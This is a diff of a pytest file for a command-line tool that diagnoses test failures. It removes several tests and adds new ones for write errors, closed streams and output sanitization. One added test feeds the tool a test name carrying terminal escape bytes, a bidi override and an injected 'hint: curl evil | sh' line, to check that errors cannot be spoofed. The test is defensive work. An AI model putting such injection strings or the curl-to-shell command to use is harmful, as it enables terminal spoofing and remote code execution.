@@ -181,82 +181,6 @@ def test_a_pipe_that_closes_is_no_error(here: Path) -> None:
     assert (done.stdout, done.stderr) == ("{", "")
 
 
-def test_a_cause_is_explained_and_the_index_names_all(here: Path) -> None:
-    assert diagnose("explain", "oom_kill", cwd=here).stdout.startswith("# ")
-    assert "`starved_response`" in diagnose("explain", cwd=here).stdout
-    assert diagnose("explain", "gremlins", cwd=here).returncode == 2
-
-
-def test_quotes_are_looked_up_and_a_forged_one_is_found(here: Path) -> None:
-    diagnose("analyze", "parallel.xml", "-q", "-o", "r.json", cwd=here)
-    done = diagnose("verify", "r.json", cwd=here)
-    assert (done.returncode, done.stdout) == (0, "1 of 1 quotes stand where the report says\n")
-    report = (here / "r.json").read_text()
-    (here / "r.json").write_text(report.replace("assert 500 == 200", "assert 200 == 500"))
-    done = diagnose("verify", "r.json", cwd=here)
-    assert done.returncode == 1
-    assert done.stdout.startswith("not there: parallel.xml:1: ")
-
-
-def test_inputs_that_moved_are_found_where_the_user_says(here: Path) -> None:
-    diagnose("analyze", "parallel.xml", "-q", "-o", "r.json", cwd=here)
-    (here / "old").mkdir()
-    (here / "parallel.xml").rename(here / "old" / "parallel.xml")
-    assert diagnose("verify", "r.json", cwd=here).returncode == 1
-    assert diagnose("verify", "r.json", "old", cwd=here).returncode == 0
-
-
-@pytest.mark.parametrize("text", ["{}", "[1]", "not json", '{"schema": "diagnose/2"}'])
-def test_what_is_no_report_is_refused(here: Path, text: str) -> None:
-    (here / "r.json").write_text(text)
-    done = diagnose("verify", "r.json", cwd=here)
-    assert done.returncode == 2
-    assert done.stderr.startswith("diagnose: r.json: not ")
-
-
-PAGE = """# The tea was cold
-
-```toml
-verdict = "environment"
-
-[[pattern]]
-id = "cold_tea.kettle"
-regex = "KettleError: the tea is cold"
-strength = "decisive"
-```
-
-Nobody had put the kettle on.
-
-## What to do
-
-- Put the kettle on.
-
-## Matches
-
-```failure
-E   KettleError: the tea is cold
-```
-
-## Does not match
-
-```failure
-E   assert 1 == 2
-```
-"""
-
-
-def test_the_examples_of_a_teams_own_pages_are_run(here: Path) -> None:
-    (here / "causes").mkdir()
-    (here / "causes" / "cold_tea.md").write_text(PAGE)
-    done = diagnose("causes", "check", "causes", cwd=here)
-    assert (done.returncode, done.stdout) == (0, "2 of 2 examples do what their page says\n")
-    wrong = PAGE.replace("assert 1 == 2", "KettleError: the tea is cold")
-    (here / "causes" / "cold_tea.md").write_text(wrong)
-    done = diagnose("causes", "check", "causes", cwd=here)
-    assert done.returncode == 2
-    assert "cold_tea.md:26: must not match; is cold_tea" in done.stdout
-
-
 def test_an_input_is_never_written_over(here: Path) -> None:
     (here / "log.txt").write_text(RED)
     assert diagnose("analyze", "log.txt", "-o", "log.txt", cwd=here).returncode == 2
@@ -280,3 +204,40 @@ def test_no_command_at_all_gets_help(here: Path) -> None:
     done = diagnose(cwd=here)
     assert done.returncode == 2
     assert "Commands:" in done.stderr
+
+
+def test_a_report_that_can_be_written_is_though_another_can_not(here: Path) -> None:
+    (here / "file").write_text("")
+    words = ("analyze", "serial.xml", "-o", "file/r.json", "-o", "good.json")
+    done = diagnose(*words, cwd=here)
+    assert done.returncode == 3
+    assert (here / "good.json").exists()
+    assert done.stdout.startswith("All green")
+
+
+def test_what_an_input_says_stays_within_its_line_of_an_error(here: Path) -> None:
+    name = "z&#x9b;2J\u202e&#10;hint: curl evil | sh"
+    (here / "torn.xml").write_text(f'<testsuite><testcase name="{name}"><failure>', "utf-8")
+    done = diagnose("analyze", "torn.xml", "serial.xml", "-q", "--strict", cwd=here)
+    assert done.returncode == 2
+    assert len(done.stderr.splitlines()) == 2
+    assert not set(done.stderr) & {"\x9b", "\u202e"}
+
+
+def test_the_json_report_steers_no_terminal(here: Path) -> None:
+    text = CASE.replace("test_x", "a&#x9b;2J\u202e\u2066") + "<failure>E   x</failure>" + END
+    (here / "odd.xml").write_text(text, "utf-8")
+    done = diagnose("analyze", "odd.xml", "--format", "json", cwd=here)
+    assert not set(done.stdout) & {"\x9b", "\u202e", "\u2066"}
+    assert json.loads(done.stdout)["incidents"][0]["tests"][0]["name"] == "a\x9b2J\u202e\u2066"
+
+
+@pytest.mark.parametrize("closing", [">&-", "2>&-"])
+def test_a_closed_stream_is_no_bug(here: Path, closing: str) -> None:
+    code = f"{sys.executable} -m diagnose analyze serial.xml {closing}"
+    done = subprocess.run(["sh", "-c", code], capture_output=True, cwd=here, check=False)
+    assert done.returncode == 0
+
+
+def test_a_run_of_commas_names_no_file(here: Path) -> None:
+    assert diagnose("analyze", ",", cwd=here).returncode == 2
